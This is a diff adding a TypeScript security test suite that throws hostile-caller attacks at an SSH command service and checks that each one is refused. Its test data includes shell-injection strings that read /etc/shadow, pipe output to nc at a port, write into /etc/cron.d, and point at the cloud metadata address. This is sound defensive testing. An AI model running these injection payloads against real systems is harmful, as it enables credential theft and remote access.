@@ -1,0 +1,653 @@
+/**
+ * The hostile-caller suite (issue 10, docs/security.md): every attack a caller with bad intent
+ * can try, each through the real handlers (API Gateway v1 and v2, the Step Functions task, the
+ * local server) against a real OpenSSH sshd and a rogue SSH server that records every
+ * authentication attempt. Pass = the right error name and status for each attack, ZERO
+ * authentication attempts at the rogue server across the whole suite, and no secret byte
+ * (password, key material, passphrase) in any captured log line, response or thrown error.
+ */
+import { request as httpRequest } from "node:http";
+import type { APIGatewayProxyResult } from "aws-lambda";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { createApiHandler } from "../../functions/api.ts";
+import { type LocalServer, startLocalServer, TOKEN_HEADER } from "../../functions/local/server.ts";
+import { Policy, type PolicyDocument } from "../../functions/policy/policy.ts";
+import { createTaskHandler } from "../../functions/task.ts";
+import type { RunResult, Secret } from "../../lib/types.ts";
+import {
+  CALLER,
+  type Captured,
+  fakeContext,
+  LOOPBACK_DENY,
+  taskEvent,
+  testRuntime,
+  v1Event,
+  v2Event,
+  WORKFLOW,
+} from "../functions/support.ts";
+import { type SshdServer, startSshd } from "../helpers/sshd.ts";
+import { type RogueServer, startRogueServer } from "./rogue-server.ts";
+
+/** A caller whose rule allows request pins (and the password credential). */
+const PINNER = "arn:aws:iam::123456789012:role/pinner";
+/** A caller allowed only names under *.corp that resolve into 10.0.0.0/8. */
+const CORP = "arn:aws:iam::123456789012:role/corp-operator";
+/** A caller no rule names. */
+const STRANGER = "arn:aws:iam::999999999999:user/mallory";
+const BROKEN_KEY_BODY = "U0VDUkVULUtFWS1CWVRFUy1ORVZFUi1JTi1BLUxPRy1MSU5F";
+const WRONG_PASSPHRASE = "not-the-passphrase-7f3c";
+
+let sshd: SshdServer;
+let rogue: RogueServer;
+let captured: Captured;
+let api: ReturnType<typeof createApiHandler>;
+let task: ReturnType<typeof createTaskHandler>;
+let local: LocalServer;
+/** Every response body and thrown error of the suite, for the secret scan. */
+const seen: string[] = [];
+
+function policy(): PolicyDocument {
+  const loopback = {
+    cidrs: ["127.0.0.1/32"],
+    ports: [sshd.port, rogue.server.port],
+    usernames: [sshd.username],
+  };
+  return {
+    // The lab's servers listen on loopback, which the default deny list refuses.
+    denyCidrs: LOOPBACK_DENY,
+    rules: [
+      {
+        id: "uptime-only",
+        callers: [CALLER],
+        targets: loopback,
+        credentials: ["default", "broken", "locked"],
+        commands: {
+          // Deliberately wide: shell syntax is refused whatever the pattern says.
+          patterns: ["uptime", "echo [ -~]*"],
+          templates: ["tail-file", "zeros"],
+        },
+      },
+      {
+        id: "pins",
+        callers: [PINNER],
+        targets: loopback,
+        credentials: ["default", "prod-root"],
+        allowRequestPins: true,
+        commands: { patterns: ["uptime"] },
+      },
+      {
+        id: "pins-by-name",
+        callers: [PINNER],
+        targets: { hosts: ["revoked.corp"], ...loopback },
+        allowRequestPins: true,
+        commands: { patterns: ["uptime"] },
+      },
+      {
+        id: "corp-names",
+        callers: [CORP],
+        targets: { hosts: ["*.corp"], cidrs: ["10.0.0.0/8"], ports: [sshd.port], usernames: ["*"] },
+        commands: { patterns: ["uptime"] },
+      },
+      {
+        id: "workflow",
+        callers: [WORKFLOW],
+        targets: loopback,
+        commands: { patterns: ["uptime", "exit [0-9]+", "echo [ -~]*"] },
+      },
+    ],
+    templates: {
+      "tail-file": {
+        command: "tail -n 5 {{file}}",
+        params: { file: { type: "string", pattern: "[A-Za-z0-9/._-]+" } },
+      },
+      zeros: {
+        command: "head -c {{n}} /dev/zero",
+        params: { n: { type: "integer", minimum: 1, maximum: 100_000 } },
+      },
+    },
+  };
+}
+
+beforeAll(async () => {
+  [sshd, rogue] = await Promise.all([startSshd(), startRogueServer()]);
+  if (sshd.password === null)
+    throw new Error("the suite needs root (a password for the test user)");
+  const secrets: Record<string, Secret> = {
+    default: { privateKey: sshd.keys.ed25519.privateKey },
+    "prod-root": { password: sshd.password },
+    broken: {
+      privateKey: `-----BEGIN OPENSSH PRIVATE KEY-----\n${BROKEN_KEY_BODY}\n-----END OPENSSH PRIVATE KEY-----\n`,
+    },
+    locked: { privateKey: sshd.keys.encrypted.privateKey, passphrase: WRONG_PASSPHRASE },
+  };
+  const knownHosts = [
+    sshd.knownHostsLine,
+    // The rogue's key, revoked for one name: no pin can bring it back.
+    `@revoked [revoked.corp]:${rogue.server.port} ${rogue.server.hostKeyLine}`,
+  ].join("\n");
+  const lookup = async (host: string) => {
+    const table: Record<string, { address: string; family: 4 | 6 }> = {
+      "internal.corp": { address: "127.0.0.1", family: 4 },
+      "revoked.corp": { address: "127.0.0.1", family: 4 },
+      "mapped.corp": { address: "::ffff:127.0.0.1", family: 6 },
+      "metadata.corp": { address: "169.254.169.254", family: 4 },
+    };
+    const found = table[host];
+    if (!found) throw Object.assign(new Error(`ENOTFOUND ${host}`), { code: "ENOTFOUND" });
+    return found;
+  };
+  const made = testRuntime({
+    policy: policy(),
+    credentials: secrets,
+    knownHosts,
+    lookup,
+    settings: { remoteBound: false },
+  });
+  captured = made.captured;
+  api = createApiHandler(made.runtime);
+  task = createTaskHandler(made.runtime);
+  local = await startLocalServer({ handler: api, callerArn: CALLER, port: 0 });
+});
+
+afterAll(async () => {
+  await Promise.all([local?.close(), rogue?.close(), sshd?.stop()]);
+});
+
+const target = (extra: Record<string, unknown> = {}) => ({
+  host: "127.0.0.1",
+  port: sshd.port,
+  username: sshd.username,
+  command: "uptime",
+  ...extra,
+});
+
+interface Outcome {
+  status: number;
+  name: string | undefined;
+  body: { error?: { name: string; message: string }; result?: RunResult } & Partial<RunResult>;
+}
+
+function outcome(response: APIGatewayProxyResult): Outcome {
+  seen.push(response.body);
+  const body = JSON.parse(response.body) as Outcome["body"];
+  return { status: response.statusCode, name: body.error?.name, body };
+}
+
+type Via = "v1" | "v2";
+
+async function viaApi(via: Via, body: unknown, caller = CALLER): Promise<Outcome> {
+  const text = JSON.stringify(body);
+  const event = via === "v1" ? v1Event(text, { caller }) : v2Event(text, { caller });
+  return outcome(await api(event, fakeContext()));
+}
+
+async function viaTask(event: unknown): Promise<{ name: string; payload: unknown }> {
+  try {
+    const result = await task(event, fakeContext());
+    seen.push(JSON.stringify(result));
+    return { name: "none", payload: result };
+  } catch (err) {
+    const error = err as Error;
+    seen.push(error.message, String(error.stack));
+    return { name: error.name, payload: JSON.parse(error.message) as unknown };
+  }
+}
+
+async function viaLocal(headers: Record<string, string>, body: unknown): Promise<number> {
+  return new Promise((resolve, reject) => {
+    const req = httpRequest(
+      { host: "127.0.0.1", port: local.port, path: "/run", method: "POST", headers },
+      (res) => {
+        let text = "";
+        res.on("data", (chunk: Buffer) => {
+          text += chunk.toString();
+        });
+        res.on("end", () => {
+          seen.push(text);
+          resolve(res.statusCode ?? 0);
+        });
+      },
+    );
+    req.on("error", reject);
+    req.end(JSON.stringify(body));
+  });
+}
+
+describe("credentials: a caller uses only what its rule grants", () => {
+  it.each(["v1", "v2"] as const)(
+    "names the production password credential its rule does not grant (%s) → 403 CredentialNotAllowed",
+    async (via) => {
+      const o = await viaApi(via, target({ credential: "prod-root" }));
+      expect([o.status, o.name]).toEqual([403, "CredentialNotAllowed"]);
+    },
+  );
+
+  it("names an ungranted credential from a Step Functions task → CredentialNotAllowed", async () => {
+    const t = await viaTask(taskEvent(target({ credential: "prod-root" })));
+    expect(t.name).toBe("CredentialNotAllowed");
+  });
+
+  it("changes the case of a granted name (DEFAULT) → 403 CredentialNotAllowed", async () => {
+    const o = await viaApi("v1", target({ credential: "DEFAULT" }));
+    expect([o.status, o.name]).toEqual([403, "CredentialNotAllowed"]);
+  });
+
+  it("walks out of the credential namespace (default/../prod-root) → 400 ValidationError", async () => {
+    const o = await viaApi("v1", target({ credential: "default/../prod-root" }));
+    expect([o.status, o.name]).toEqual([400, "ValidationError"]);
+  });
+
+  it("uses a granted credential whose key does not parse → 500 CredentialInvalid, fixed message", async () => {
+    const o = await viaApi("v1", target({ credential: "broken" }));
+    expect([o.status, o.name]).toEqual([500, "CredentialInvalid"]);
+    expect(o.body.error?.message).toMatch(/not in a format ssh can read/);
+  });
+
+  it("uses a granted key with the wrong stored passphrase → fixed message, no passphrase echoed", async () => {
+    const o = await viaApi("v1", target({ credential: "locked" }));
+    expect(o.body.error?.message).toMatch(/passphrase does not decrypt the private key/);
+  });
+});
+
+describe("host keys: a request pin only narrows the operator's known hosts", () => {
+  it("pins its own server's key for a host known hosts do not list (rule without allowRequestPins) → 403 TargetNotAllowed", async () => {
+    const o = await viaApi(
+      "v1",
+      target({ port: rogue.server.port, hostKey: rogue.server.hostKeyFingerprint }),
+    );
+    expect([o.status, o.name]).toEqual([403, "TargetNotAllowed"]);
+    expect(o.body.error?.message).toContain("allowRequestPins");
+  });
+
+  it("pins its own server with the production password (rule allows pins) → 403 CredentialNotAllowed", async () => {
+    const o = await viaApi(
+      "v2",
+      target({
+        port: rogue.server.port,
+        hostKey: rogue.server.hostKeyLine,
+        credential: "prod-root",
+      }),
+      PINNER,
+    );
+    expect([o.status, o.name]).toEqual([403, "CredentialNotAllowed"]);
+  });
+
+  it("pins the rogue's key for a host known hosts list with another key → 502 HostKeyMismatch, nothing sent", async () => {
+    const o = await viaApi("v1", target({ hostKey: rogue.server.hostKeyFingerprint }), PINNER);
+    expect([o.status, o.name]).toEqual([502, "HostKeyMismatch"]);
+  });
+
+  it("pins a key the operator revoked (rule allows pins) → 502 HostKeyMismatch, no credential sent", async () => {
+    const o = await viaApi(
+      "v1",
+      target({
+        host: "revoked.corp",
+        port: rogue.server.port,
+        hostKey: rogue.server.hostKeyLine,
+      }),
+      PINNER,
+    );
+    expect([o.status, o.name]).toEqual([502, "HostKeyMismatch"]);
+  });
+
+  it("points at its own server with no pin → 502 HostKeyUnknown, no credential sent", async () => {
+    const o = await viaApi("v1", target({ port: rogue.server.port }));
+    expect([o.status, o.name]).toEqual([502, "HostKeyUnknown"]);
+  });
+
+  it("sends a malformed pin → 400 ValidationError", async () => {
+    const o = await viaApi("v1", target({ hostKey: "SHA256:not-a-fingerprint" }));
+    expect([o.status, o.name]).toEqual([400, "ValidationError"]);
+  });
+
+  it("a narrowing pin that matches the listed key still runs (200, hostKeySource pin+known_hosts)", async () => {
+    const o = await viaApi("v1", target({ hostKey: sshd.hostKeyFingerprint }));
+    expect(o.status).toBe(200);
+    expect(captured.audits.at(-1)).toMatchObject({ hostKeySource: "pin+known_hosts" });
+  });
+});
+
+describe("callers: only the deployed API and the state machines are believed", () => {
+  const forged = (patch: (ctx: Record<string, unknown>) => void, v2 = false) => {
+    const event = v2 ? v2Event(JSON.stringify(target())) : v1Event(JSON.stringify(target()));
+    patch(event.requestContext as unknown as Record<string, unknown>);
+    return event;
+  };
+  it.each([
+    [
+      "another API id",
+      (c: Record<string, unknown>): void => {
+        c.apiId = "a1b2c3d4e5";
+      },
+      false,
+    ],
+    [
+      "another stage",
+      (c: Record<string, unknown>): void => {
+        c.stage = "prod";
+      },
+      false,
+    ],
+    [
+      "another account",
+      (c: Record<string, unknown>): void => {
+        c.accountId = "999999999999";
+      },
+      false,
+    ],
+    [
+      "another API id (HTTP API v2)",
+      (c: Record<string, unknown>): void => {
+        c.apiId = "x";
+      },
+      true,
+    ],
+    [
+      "no signed principal",
+      (c: Record<string, unknown>): void => {
+        (c.identity as Record<string, unknown>).userArn = null;
+      },
+      false,
+    ],
+  ] as const)(
+    "invokes the function directly with %s → 403 CallerNotAllowed",
+    async (_, patch, v2) => {
+      const o = outcome(await api(forged(patch, v2), fakeContext()));
+      expect([o.status, o.name]).toEqual([403, "CallerNotAllowed"]);
+    },
+  );
+
+  it("invokes the API function with no requestContext → 403 CallerNotAllowed", async () => {
+    const event = v1Event(JSON.stringify(target()));
+    delete (event as { requestContext?: unknown }).requestContext;
+    const o = outcome(await api(event, fakeContext()));
+    expect([o.status, o.name]).toEqual([403, "CallerNotAllowed"]);
+  });
+
+  it("is a principal no rule names → 403 TargetNotAllowed", async () => {
+    const o = await viaApi("v1", target(), STRANGER);
+    expect([o.status, o.name]).toEqual([403, "TargetNotAllowed"]);
+  });
+
+  const machine = WORKFLOW;
+  const execution = (name: string) => `${machine.replace(":stateMachine:", ":execution:")}:${name}`;
+  it.each([
+    ["a bare request (no execution context)", () => target()],
+    [
+      "an execution of another state machine",
+      () => ({
+        request: target(),
+        execution: {
+          id: "arn:aws:states:local:000000000000:execution:Other:e1",
+          stateMachine: machine,
+        },
+      }),
+    ],
+    [
+      "a state machine in another account",
+      () => ({
+        request: target(),
+        execution: {
+          id: "arn:aws:states:local:999999999999:execution:fleet-workflow:e1",
+          stateMachine: "arn:aws:states:local:999999999999:stateMachine:fleet-workflow",
+        },
+      }),
+    ],
+    [
+      "a state machine the deployment does not run",
+      () => ({
+        request: target(),
+        execution: {
+          id: "arn:aws:states:local:000000000000:execution:rogue:e1",
+          stateMachine: "arn:aws:states:local:000000000000:stateMachine:rogue",
+        },
+      }),
+    ],
+    [
+      "a role ARN as its state machine",
+      () => ({
+        request: target(),
+        execution: { id: execution("e1"), stateMachine: "arn:aws:iam::000000000000:role/fleet" },
+      }),
+    ],
+  ] as const)("invokes the task function with %s → CallerNotAllowed", async (_, event) => {
+    const t = await viaTask(event());
+    expect(t.name).toBe("CallerNotAllowed");
+  });
+
+  it("records the state machine as caller and the execution ARN in the audit line", async () => {
+    const t = await viaTask(taskEvent(target()));
+    expect(t.name).toBe("none");
+    expect(captured.audits.at(-1)).toMatchObject({
+      caller: WORKFLOW,
+      executionArn: expect.stringContaining(":execution:fleet-workflow:"),
+    });
+  });
+});
+
+describe("commands: shell syntax and template injection", () => {
+  it.each([
+    "uptime; cat /etc/shadow",
+    "uptime && id",
+    "uptime || id",
+    "uptime | nc 10.0.0.9 4444",
+    "uptime\nid",
+    "uptime\rid",
+    "echo $(id)",
+    "echo `id`",
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax under test
+    "echo ${HOME}",
+    "echo hi > /etc/cron.d/x",
+    "echo hi < /etc/shadow",
+    "echo (id)",
+    "echo hi \\; id",
+    "echo hi & id",
+  ])("smuggles shell syntax past a wide pattern: %j → 403 CommandNotAllowed", async (command) => {
+    const o = await viaApi("v1", target({ command }));
+    expect([o.status, o.name]).toEqual([403, "CommandNotAllowed"]);
+  });
+
+  it.each([
+    ['template:tail-file {"file":"/etc/passwd; id"}', "does not match"],
+    ['template:tail-file {"file":"-n1000000"}', 'must not start with "-"'],
+    ['template:tail-file {"file":"/x","extra":"1"}', "unknown parameter"],
+    ['template:zeros {"n":100001}', "<= 100000"],
+    ['template:zeros {"n":"1; id"}', "must be an integer"],
+  ])("injects through a template parameter: %s → 403 CommandNotAllowed", async (command, why) => {
+    const o = await viaApi("v2", target({ command }));
+    expect([o.status, o.name]).toEqual([403, "CommandNotAllowed"]);
+    expect(o.body.error?.message).toContain(why);
+  });
+
+  it.each([
+    ['echo "{{x}}"', "inside double quotes"],
+    ["echo '{{x}}'", "inside single quotes"],
+    ["echo $(cat {{x}})", "inside command substitution"],
+    ["echo `cat {{x}}`", "inside backticks"],
+    ["cat <<EOF\n{{x}}\nEOF", "inside here document"],
+    ["ls --dir={{x}}", "glued to other text"],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax under test
+    ["echo ${{{x}}}", "inside parameter expansion"],
+    ["echo \\{{x}}", "follows a backslash"],
+  ])(
+    "gets a policy loaded whose template places a value unsafely (%j) → refused at load",
+    (command, why) => {
+      const doc: PolicyDocument = {
+        rules: [],
+        templates: { t: { command, params: { x: { type: "string", pattern: "[a-z]+" } } } },
+      };
+      expect(() => new Policy(doc)).toThrow(why);
+      expect(() => new Policy(doc)).toThrow('template "t"');
+    },
+  );
+
+  it.each([
+    [{ type: "string" }, 'needs "pattern" or "enum"'],
+    [{ type: "integer", minimum: 1 }, 'needs integer "minimum" and "maximum"'],
+  ] as const)(
+    "gets a policy loaded with an unbounded parameter %j → refused at load",
+    (param, why) => {
+      const doc = {
+        rules: [],
+        templates: { t: { command: "echo {{x}}", params: { x: param } } },
+      } as unknown as PolicyDocument;
+      expect(() => new Policy(doc)).toThrow(why);
+    },
+  );
+});
+
+describe("addresses: no smuggled target, no resolver oracle", () => {
+  it("resolves a permitted name into loopback → 403, and the response never names the address", async () => {
+    const o = await viaApi("v1", target({ host: "internal.corp" }), CORP);
+    expect([o.status, o.name]).toEqual([403, "TargetNotAllowed"]);
+    expect(JSON.stringify(o.body)).not.toContain("127.0.0.1");
+    expect(o.body.result?.target.address).toBeNull();
+    expect(captured.audits.at(-1)?.target?.address).toBe("127.0.0.1");
+  });
+
+  it("resolves into the metadata endpoint → 403 TargetNotAllowed, address not revealed", async () => {
+    const o = await viaApi("v1", target({ host: "metadata.corp" }), CORP);
+    expect([o.status, o.name]).toEqual([403, "TargetNotAllowed"]);
+    expect(JSON.stringify(o.body)).not.toContain("169.254");
+  });
+
+  it("resolves into IPv4-mapped loopback (::ffff:127.0.0.1) → 403 TargetNotAllowed", async () => {
+    const o = await viaApi("v1", target({ host: "mapped.corp" }), CORP);
+    expect([o.status, o.name]).toEqual([403, "TargetNotAllowed"]);
+  });
+
+  it.each(["127.0.0.1", "::1", "::127.0.0.1", "64:ff9b::7f00:1", "169.254.169.254", "0.0.0.0"])(
+    "reaches %s under a rule that allows any name → refused by the default deny list",
+    (address) => {
+      const open = new Policy({
+        rules: [
+          {
+            callers: ["*"],
+            targets: { hosts: ["**"], usernames: ["*"] },
+            commands: { patterns: ["uptime"] },
+          },
+        ],
+      });
+      expect(() =>
+        open.authorize(CALLER, { host: address, username: "u", command: "uptime" }),
+      ).toThrow(/denied range/);
+    },
+  );
+
+  it("gets a policy loaded whose host glob is an address pattern (10.0.*) → refused, pointing at cidrs", () => {
+    const doc: PolicyDocument = {
+      rules: [
+        {
+          callers: ["*"],
+          targets: { hosts: ["10.0.*"], usernames: ["*"] },
+          commands: { patterns: ["uptime"] },
+        },
+      ],
+    };
+    expect(() => new Policy(doc)).toThrow(/targets\.cidrs/);
+  });
+});
+
+describe("sizes: no response can outgrow its transport", () => {
+  it("asks a Step Functions task for more output than a state can carry → ValidationError", async () => {
+    const t = await viaTask(taskEvent(target({ maxOutputBytes: 200_000 })));
+    expect(t.name).toBe("ValidationError");
+  });
+
+  it("prints control bytes to inflate the JSON response → base64, at most 4/3 of maxOutputBytes", async () => {
+    const o = await viaApi(
+      "v1",
+      target({ command: 'template:zeros {"n":60000}', maxOutputBytes: 30_000 }),
+    );
+    expect(o.status).toBe(200);
+    expect(o.body.output).toMatchObject({ stdoutBytes: 60_000, stdoutEncoding: "base64" });
+    expect(Buffer.byteLength(JSON.stringify(o.body.stdout))).toBeLessThan((30_000 * 4) / 3 + 200);
+  });
+
+  it("reads another workflow's output from a Step Functions error → counts and hashes only", async () => {
+    const t = await viaTask(
+      taskEvent(target({ command: "echo secret-output", failOnNonZeroExit: true })),
+    );
+    expect(t.name).toBe("none");
+    const failed = await viaTask(taskEvent(target({ command: "exit 3", failOnNonZeroExit: true })));
+    expect(failed.name).toBe("CommandFailed");
+    expect((failed.payload as RunResult).stdout).toBe("");
+  });
+});
+
+describe("the local server: no web page can drive it", () => {
+  const json = { "content-type": "application/json" };
+  it("arrives through DNS rebinding (foreign Host) → 403", async () => {
+    expect(
+      await viaLocal({ ...json, host: "evil.example", [TOKEN_HEADER]: local.token }, target()),
+    ).toBe(403);
+  });
+  it("arrives from a web page (Origin header) → 403", async () => {
+    const host = `127.0.0.1:${local.port}`;
+    expect(
+      await viaLocal(
+        { ...json, host, origin: "http://evil.example", [TOKEN_HEADER]: local.token },
+        target(),
+      ),
+    ).toBe(403);
+  });
+  it("arrives without the per-run token → 401", async () => {
+    expect(await viaLocal({ ...json, host: `127.0.0.1:${local.port}` }, target())).toBe(401);
+  });
+  it("guesses the token → 401", async () => {
+    expect(
+      await viaLocal(
+        { ...json, host: `localhost:${local.port}`, [TOKEN_HEADER]: "x".repeat(32) },
+        target(),
+      ),
+    ).toBe(401);
+  });
+  it("names an ungranted credential through the local server → 403", async () => {
+    const status = await viaLocal(
+      { ...json, host: `127.0.0.1:${local.port}`, [TOKEN_HEADER]: local.token },
+      target({ credential: "prod-root" }),
+    );
+    expect(status).toBe(403);
+  });
+});
+
+describe("audit: refusals are on the record", () => {
+  it("sends a body that fails validation → the audit line keeps host, port, user, credential and command hash", async () => {
+    const o = await viaApi("v1", { ...target({ credential: "prod-root" }), extra: true });
+    expect([o.status, o.name]).toEqual([400, "ValidationError"]);
+    const line = captured.audits.at(-1)!;
+    expect(line).toMatchObject({
+      target: { host: "127.0.0.1", port: sshd.port, username: sshd.username },
+      credential: "prod-root",
+      error: { name: "ValidationError" },
+    });
+    expect(line.commandSha256).toMatch(/^[0-9a-f]{64}$/);
+  });
+});
+
+describe("across the whole suite", () => {
+  it("the rogue server saw zero authentication attempts", () => {
+    expect(rogue.attempts).toEqual([]);
+    // It was reached (HostKeyUnknown, HostKeyMismatch): the refusals happened at the key check.
+    expect(rogue.connections()).toBeGreaterThan(0);
+  });
+
+  it("no secret byte appears in any log line, response or thrown error", () => {
+    const secrets = [
+      sshd.password!,
+      WRONG_PASSPHRASE,
+      sshd.keys.encrypted.passphrase,
+      BROKEN_KEY_BODY,
+      // A line from the middle of each real private key.
+      sshd.keys.ed25519.privateKey.split("\n")[2]!,
+      sshd.keys.encrypted.privateKey.split("\n")[2]!,
+    ];
+    const everything = [...captured.lines, ...seen].join("\n");
+    expect(captured.lines.length).toBeGreaterThan(40);
+    for (const secret of secrets) {
+      expect(secret.length).toBeGreaterThan(8);
+      expect(everything.includes(secret), `leaked ${secret.slice(0, 6)}…`).toBe(false);
+    }
+    expect(everything).not.toMatch(/-----BEGIN [A-Z ]*PRIVATE KEY-----/);
+  });
+});
